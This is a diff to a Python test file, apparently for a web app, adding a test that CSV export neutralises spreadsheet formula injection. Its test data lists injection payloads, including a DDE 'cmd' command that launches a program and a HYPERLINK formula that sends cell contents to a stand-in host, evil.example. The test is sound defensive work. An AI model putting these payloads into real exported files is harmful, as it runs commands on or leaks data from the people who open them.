@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import re
@@ -17,7 +18,7 @@ from PIL import Image
 from werkzeug.datastructures import FileStorage
 from werkzeug.test import encode_multipart
 
-from app import drawing, pictures
+from app import csv_out, drawing, pictures
 from tests.http import assert_refused, data_of
 
 MEGABYTE = 1024 * 1024
@@ -330,3 +331,27 @@ def test_a_table_that_is_a_bomb_takes_little_memory(api, make, bomb, request):
     assert response.status_code in {200, 400, 422}
     assert len(response.data) < 100_000
     assert growth() < 2 * MOST_GROWTH
+
+
+FORMULAS = [
+    f"{start}{rest}"
+    for start in ("=", "+", "-", "@", "\t=", "\r=", "\0=")
+    for rest in (
+        "1+1",
+        "cmd|' /C calc'!A0",
+        'HYPERLINK("https://evil.example?"&A1,"x")',
+        "SUM(1,2)\n",
+        'a","=1+1',
+    )
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
+def test_no_cell_of_ours_is_a_formula(formula):
+    written = csv_out.header(["person.name", "note"]) + csv_out.line(
+        {"person": {"name": formula}, "note": formula}, ["person.name", "note"]
+    )
+
+    columns, row = csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True)
+    assert columns == ["person_name", "note"]
+    assert row == [f"'{formula}"] * 2
